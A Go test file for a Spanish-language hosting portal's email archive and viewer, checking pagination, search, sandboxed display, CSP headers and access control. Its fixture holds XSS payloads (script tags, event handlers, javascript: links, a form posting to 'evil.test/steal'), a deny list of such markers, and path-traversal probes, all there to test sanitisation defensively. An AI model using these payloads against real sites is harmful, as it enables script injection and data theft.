package handlers_test

import (
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"zona/mail"
	"zona/store"
	"zona/store/storetest"
)

// hostileHTML carries every kind of active content an email may try.
const hostileHTML = `<h1>Factura lista</h1>
<p onclick="alert(1)">Hola <b>Ana</b></p>
<script>document.title='pwned'</script>
<img src="x" onerror="alert(2)">
<a href="javascript:alert(3)">pagar</a>
<iframe src="https://evil.test/"></iframe>
<form action="https://evil.test/steal"><input name="pin"><button>Enviar</button></form>
<p style="color:red;width:expression(alert(4));background:url(https://evil.test/t.png)">estilo</p>
<svg><script>alert(5)</script><circle onload="alert(6)"/></svg>
<img src="https://evil.test/pixel.png" alt="pixel">
<table style="width:100%"><tr><td style="padding:8px;color:#333">Total: $100</td></tr></table>`

func queue(t testing.TB, st *store.Store, clientID, category, subject, html string) *store.Message {
	t.Helper()
	m, err := mail.NewMailer(st, mail.Config{From: "Hosting de Prueba <avisos@hosting.test>"}, nil,
		slog.New(slog.NewTextHandler(io.Discard, nil))).Send(mail.Outgoing{ClientID: clientID, Category: category, Subject: subject, HTML: html})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func TestEmailsArchive(t *testing.T) {
	e := newEnv(t)
	for i := range 25 {
		queue(t, e.st, e.client.ID, store.CategoryNotes, fmt.Sprintf("Nota de pago %02d", i), fmt.Sprintf("<p>Importe número %d</p>", i))
	}
	queue(t, e.st, e.client.ID, store.CategoryDomains, "Renovación de dominio", "<p>Su dominio ejemplo.mx vence pronto. Facturación anual.</p>")
	a := e.agent()
	a.mustSignIn()

	r := a.get("/emails")
	if r.StatusCode != http.StatusOK {
		t.Fatalf("GET /emails: %d", r.StatusCode)
	}
	rows := r.doc.Find(`[data-testid="email-subject"]`)
	if rows.Length() != 20 || rows.First().Text() != "Renovación de dominio" || rows.Eq(1).Text() != "Nota de pago 24" {
		t.Fatalf("first page: %d rows, first %q", rows.Length(), rows.First().Text())
	}
	if got := r.text(`[data-testid="email-status"]`); !strings.Contains(got, "En camino") {
		t.Errorf("status %q", got)
	}
	if !strings.Contains(r.body, "Dominios") || !strings.Contains(r.body, "Notas") {
		t.Error("categories are not translated")
	}
	if r.doc.Find(`[data-testid="menu-emails"]`).Length() != 1 {
		t.Error("no Emails Recibidos in the user menu")
	}
	older, _ := r.doc.Find(`[data-testid="emails-older"]`).Attr("href")
	r2 := a.get(older)
	rows2 := r2.doc.Find(`[data-testid="email-subject"]`)
	if rows2.Length() != 6 || rows2.First().Text() != "Nota de pago 05" || r2.doc.Find(`[data-testid="emails-older"]`).Length() != 0 {
		t.Errorf("second page: %d rows, first %q", rows2.Length(), rows2.First().Text())
	}

	// Search over subject and body, accents and case folded.
	r = a.get("/emails?q=FACTURACION")
	if rows := r.doc.Find(`[data-testid="email-subject"]`); rows.Length() != 1 || rows.Text() != "Renovación de dominio" {
		t.Errorf("search in body: %d rows", rows.Length())
	}
	r = a.get("/emails?q=" + "nota+de+pago+07")
	if rows := r.doc.Find(`[data-testid="email-subject"]`); rows.Length() != 1 {
		t.Errorf("search in subject: %d rows", rows.Length())
	}
	r = a.get("/emails?q=nada-parecido")
	if r.text(`[data-testid="emails-empty"]`) != "Ningún correo coincide con la búsqueda." {
		t.Errorf("no results: %q", r.text(`[data-testid="emails-empty"]`))
	}
	// Date filter: today has every message, 2001 none; a bad date is explained, not a 500.
	today := e.client.CreatedAt.Format("2006-01-02")
	if n := a.get("/emails?since=" + today + "&until=" + today).doc.Find(`[data-testid="email-row"]`).Length(); n != 20 {
		t.Errorf("today: %d rows", n)
	}
	if n := a.get("/emails?until=2001-01-01").doc.Find(`[data-testid="email-row"]`).Length(); n != 0 {
		t.Errorf("until 2001: %d rows", n)
	}
	for _, bad := range []string{"/emails?since=ayer", "/emails?until=2024-13-45", "/emails?before=../../x", "/emails?before=" + store.NewID(),
		"/emails?q=" + strings.Repeat("x", 1000), "/emails?q=%ff%fe"} {
		r := a.get(bad)
		if r.StatusCode != http.StatusOK {
			t.Errorf("%s: status %d", bad, r.StatusCode)
		}
	}
	if r := a.get("/emails?since=ayer"); !strings.Contains(r.body, "AAAA-MM-DD") || r.doc.Find(`[aria-invalid="true"]`).Length() == 0 {
		t.Error("a bad date is not explained next to the field")
	}

	// htmx gets the fragment only.
	req := httptest.NewRequest(http.MethodGet, "/emails?q=renovacion", nil)
	req.Header.Set("HX-Request", "true")
	if r := a.do(req); strings.Contains(r.body, "<html") || !strings.Contains(r.body, `id="emails"`) {
		t.Errorf("htmx search answered with %.200s", r.body)
	}
}

func TestEmailView(t *testing.T) {
	e := newEnv(t)
	m := queue(t, e.st, e.client.ID, store.CategoryGeneral, "Aviso importante", hostileHTML)
	other := storetest.MustCreateClient(t, e.st, "otro@example.mx", "Otro", "Cliente", testPassword)
	theirs := queue(t, e.st, other.ID, store.CategoryGeneral, "Secreto de otro", "<p>secreto</p>")
	a := e.agent()
	a.mustSignIn()

	r := a.get("/emails/" + m.ID)
	if r.StatusCode != http.StatusOK || r.text(`[data-testid="email-viewer-subject"]`) != "Aviso importante" {
		t.Fatalf("full page: %d", r.StatusCode)
	}
	if src, _ := r.doc.Find(`iframe[data-testid="email-frame"]`).Attr("src"); src != "/emails/"+m.ID+"/body" {
		t.Errorf("iframe src %q", src)
	}
	if sb, ok := r.doc.Find("iframe").Attr("sandbox"); !ok || strings.Contains(sb, "allow-scripts") || strings.Contains(sb, "allow-same-origin") {
		t.Errorf("iframe sandbox %q", sb)
	}
	if strings.Contains(r.body, "alert(") || strings.Contains(r.body, "evil.test") {
		t.Error("the page itself carries the email's HTML")
	}
	req := httptest.NewRequest(http.MethodGet, "/emails/"+m.ID, nil)
	req.Header.Set("HX-Request", "true")
	if r := a.do(req); strings.Contains(r.body, "<html") || !strings.Contains(r.body, `data-testid="email-viewer"`) {
		t.Errorf("htmx view answered %.200s", r.body)
	}
	req = httptest.NewRequest(http.MethodGet, "/emails/"+m.ID+"?close=1", nil)
	req.Header.Set("HX-Request", "true")
	if r := a.do(req); r.StatusCode != http.StatusOK || r.body != "" {
		t.Errorf("close: %d %q", r.StatusCode, r.body)
	}
	if r := a.get("/emails/" + m.ID + "?view=text"); !strings.Contains(r.text(`[data-testid="email-text"]`), "Total: $100") {
		t.Errorf("text view: %q", r.text(`[data-testid="email-text"]`))
	}
	if src, _ := a.get("/emails/" + m.ID + "?images=1").doc.Find("iframe").Attr("src"); src != "/emails/"+m.ID+"/body?images=1" {
		t.Errorf("images iframe src %q", src)
	}

	body := a.get("/emails/" + m.ID + "/body")
	wantCSP := "sandbox allow-popups allow-popups-to-escape-sandbox; default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'; img-src data:"
	if got := body.Header.Get("Content-Security-Policy"); got != wantCSP {
		t.Errorf("body CSP %q", got)
	}
	if body.Header.Get("X-Frame-Options") != "SAMEORIGIN" || body.Header.Get("Cache-Control") != "no-store" {
		t.Errorf("body headers %v", body.Header)
	}
	for _, bad := range []string{"<script", "onerror", "onclick", "onload", "javascript:", "<iframe", "<form", "<input", "expression", "url(", "<svg", "alert("} {
		if strings.Contains(strings.ToLower(body.body), bad) {
			t.Errorf("sanitised body still has %q", bad)
		}
	}
	for _, kept := range []string{"<h1>Factura lista</h1>", "<b>Ana</b>", "padding: 8px", "color: #333", "Total: $100"} {
		if !strings.Contains(body.body, kept) {
			t.Errorf("sanitised body lost %q:\n%s", kept, body.body)
		}
	}
	if got := a.get("/emails/" + m.ID + "/body?images=1").Header.Get("Content-Security-Policy"); !strings.HasSuffix(got, "img-src data: https:") {
		t.Errorf("CSP with images %q", got)
	}

	// Another account's message, a malformed ID, a path trick: not found, never a 500.
	for _, path := range []string{"/emails/" + theirs.ID, "/emails/" + theirs.ID + "/body", "/emails/" + theirs.ID + "?view=text",
		"/emails/nada", "/emails/..%2F..%2Fclient", "/emails/" + store.NewID() + "/body"} {
		r := a.get(path)
		if r.StatusCode != http.StatusNotFound || strings.Contains(r.body, "secreto") {
			t.Errorf("%s: %d", path, r.StatusCode)
		}
	}
	// Signed out: to the sign-in page.
	if r := e.agent().get("/emails/" + m.ID + "/body"); r.StatusCode != http.StatusSeeOther {
		t.Errorf("signed out: %d", r.StatusCode)
	}
}
